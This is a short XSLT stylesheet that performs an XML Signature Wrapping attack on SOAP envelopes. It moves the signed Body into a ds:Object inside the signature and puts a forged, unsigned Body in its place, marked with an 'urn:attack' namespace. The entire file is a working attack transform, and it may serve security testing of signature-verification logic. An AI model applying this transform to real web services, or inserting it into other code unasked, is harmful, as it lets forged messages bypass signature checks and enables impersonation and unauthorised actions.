<?xml version="1.0"?>
<!-- The signed soap:Body moves into a ds:Object inside the signature; a
     forged, unsigned Body takes its place. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:env="http://www.w3.org/2003/05/soap-envelope"
    xmlns:ds="http://www.w3.org/2000/09/xmldsig#">
  <xsl:import href="identity.xsl"/>
  <xsl:template match="ds:Signature">
    <xsl:copy>
      <xsl:apply-templates select="@*|node()"/>
      <ds:Object><xsl:copy-of select="/env:Envelope/env:Body"/></ds:Object>
    </xsl:copy>
  </xsl:template>
  <xsl:template match="env:Body">
    <env:Body><Forged xmlns="urn:attack">unsigned</Forged></env:Body>
  </xsl:template>
</xsl:stylesheet>
